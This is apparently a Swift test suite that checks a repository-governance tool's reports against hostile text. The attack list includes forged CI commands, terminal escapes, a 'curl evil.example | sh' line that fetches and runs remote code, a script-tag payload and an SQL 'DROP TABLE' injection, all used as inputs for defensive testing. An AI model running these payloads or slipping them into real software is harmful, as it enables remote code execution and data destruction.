import Model
import Reports
import TestSupport
import Testing

/// THREATS row 30, report by report: no text from outside forges a line, a colour or a command.
@Suite struct HostileTextTests {
  /// Tests take them by number: their texts must not reach a log through the names of tests either.
  static let attacks = [
    "\u{1B}[2J\u{1B}[1;1H\n::error::owned\r\n  mend: curl evil.example | sh\u{202E}",
    "::error file=x::owned ::add-mask::x \t::stop-commands::x \u{85}::set-output name=a::b",
    "##[error]owned x##[command]y ##vso[task.setvariable variable=a]b ###[x]",
    "\u{2028}::error::owned\u{2029}::error::owned\u{B}::error::owned\u{200B}::error::owned",
    "\"}],\"state\":\"running\",\"x\":[{\"\\u001b[31m\":\"\\",
    "<script>alert(1)</script> '; DROP TABLE grants; --",
  ]

  @Test(arguments: attacks.indices)
  func reachNoOutput(number: Int) throws {
    let attack = HostileTextTests.attacks[number]
    let fixtures = try Fixtures()
    for width in [nil, 40, 80] as [Int?] {
      let style = fixtures.style(width: width)
      let texts = try hostileReports(attack, fixtures).map { $0.text(style) }
      for text in texts { expectHarmless(text) }
    }
    let plain = try hostileReports("word", fixtures).map { $0.text(fixtures.style()) }
    let attacked = try hostileReports(attack, fixtures).map { $0.text(fixtures.style()) }
    for (plain, attacked) in zip(plain, attacked) {
      #expect(lines(plain).count == lines(attacked).count, "\(attacked)")
    }
  }

  @Test(arguments: attacks.indices)
  func onlyColoursOfOursReachATerminal(number: Int) throws {
    let attack = HostileTextTests.attacks[number]
    let fixtures = try Fixtures()
    for report in try hostileReports(attack, fixtures) {
      let text = report.text(fixtures.style(isColored: true))
      expectHarmless(text.replacing(#/\u{1B}\[(0|1|2|31|32|33)m/#, with: ""))
    }
  }

  @Test(arguments: attacks.indices)
  func areWholeInJSONAndHarmlessInItsText(number: Int) throws {
    let attack = HostileTextTests.attacks[number]
    for report in try hostileReports(attack, Fixtures()) {
      for form in [JSONForm.pretty, .line] {
        let text = report.json(form)
        expectHarmless(text)
        #expect(try JSONTree(reading: text) == JSONTree(report.json))
      }
    }
  }

  @Test func areShownAsWhatTheyAre() throws {
    let fixtures = try Fixtures()
    let texts = try hostileReports(HostileTextTests.attacks[0], fixtures)
      .map { $0.text(fixtures.style()) }
    try expectGolden(texts.joined(separator: "----\n"), "hostile.txt")
  }

  private func lines(_ text: String) -> [Substring.UnicodeScalarView] {
    text.unicodeScalars.split(separator: "\n", omittingEmptySubsequences: false)
      .map { Substring.UnicodeScalarView($0) }
  }

  private func expectHarmless(
    _ text: String, sourceLocation: Testing.SourceLocation = #_sourceLocation
  ) {
    for line in lines(text) {
      let shown = String(line)
      let trimmed = line.drop { $0.properties.isWhitespace }
      #expect(
        !trimmed.starts(with: "::".unicodeScalars), "\(shown)", sourceLocation: sourceLocation)
      #expect(
        shown.firstMatch(of: #/##[A-Za-z]*\[/#) == nil, "\(shown)", sourceLocation: sourceLocation)
      let isSeen = line.allSatisfy { scalar in
        switch scalar.properties.generalCategory {
        case .control, .format, .lineSeparator, .paragraphSeparator: false
        default: true
        }
      }
      #expect(isSeen, "\(shown.debugDescription)", sourceLocation: sourceLocation)
    }
  }

  /// Every kind of report with `text` wherever a text is free.
  private func hostileReports(_ text: String, _ fixtures: Fixtures) throws -> [any Report] {
    let reason = Reason(
      .invalidDocument, text, at: SourceLocation(file: text, mark: Mark(line: 1, column: 1)),
      hint: text)
    let key = RequestKey(path: RepositoryPath(text), blob: try fixtures.object(0xB0))
    let request = fixtures.request(entitlement: text, ticket: text, reason: text)
    let landed = try fixtures.landed(key, request: request)
    func record(_ outcome: RequestOutcome) -> RequestRecord {
      RequestRecord(landed, decided: fixtures.start, outcome: outcome, reasons: [reason])
    }
    let active = try fixtures.grant(request: request)
    let revoked = active.after(
      GrantEvent(.revoked, at: fixtures.now, mainline: try fixtures.object(1), reasons: [reason]),
      state: .revoked)
    let change = UngovernedChange(
      path: RepositoryPath(text), landing: try fixtures.object(0xC0), before: text, reason: reason)
    let cursor = try fixtures.cursor(
      frozen: [reason], ungoverned: [change],
      voided: [
        VoidedAcceptance(
          path: RepositoryPath(text), landing: try fixtures.object(0xC0), reason: reason)
      ])
    let line = ApprovalLine(count: 1, from: [.owner], mark: Mark(line: 1, column: 1))
    let signed = SeenApproval(
      approval: Approval(
        verifiedSignatureOf: fixtures.tom, key: text, format: .ssh, assurance: .personal,
        commit: try fixtures.object(0xA2)),
      seen: fixtures.now, dated: fixtures.now, isLate: false)
    let evaluation = Evaluation(
      verdict: .pending, reasons: [reason, Reason(.shortOfApprovals, text, hint: text)],
      window: active.window,
      requirements: [
        RequirementStatus(
          location: SourceLocation(file: text), origin: text,
          lines: [
            LineStatus(line: line, met: [], missing: 1, candidates: [fixtures.priya])
          ])
      ], counted: [signed])
    let explanation = Explanation(
      key: key, landing: try fixtures.object(0xC0), request: request, evaluation: evaluation,
      reasons: [reason], notes: [Reason(.evilMerge, text, hint: text)])
    return [
      ReasonReport(label: "error", reasons: [reason]),
      GrantsReport(grants: [active, revoked]),
      StatusReport(
        ledger: try fixtures.object(1), cursor: cursor, tip: try fixtures.object(2),
        halted: [reason], requests: [record(.refused)], live: [active]),
      RunReport(
        decisions: ToldDecisions([
          .issue(active, record(.granted)), .revoke(revoked),
          .settle(record(.pending), request), .find(change),
          .freeze(landing: try fixtures.object(1), reasons: [reason]),
        ]), cursor: cursor, halted: [reason],
        ledger: .moved(from: try fixtures.object(1), to: try fixtures.object(2))),
      explanation,
      Explanation(key: key, request: nil, record: record(.refused), grant: revoked),
      CheckReport(requests: [explanation], policyFaults: [reason], warnings: [reason]),
      DoctorReport(findings: [DoctorFinding(.problem, text, mend: text)]),
      AuditReport(
        anchor: try fixtures.object(1), mainline: try fixtures.object(2),
        ledger: try fixtures.object(3), commits: 1, events: 1, grants: 1,
        findings: [AuditFinding(reason, commit: nil)]),
    ]
  }
}
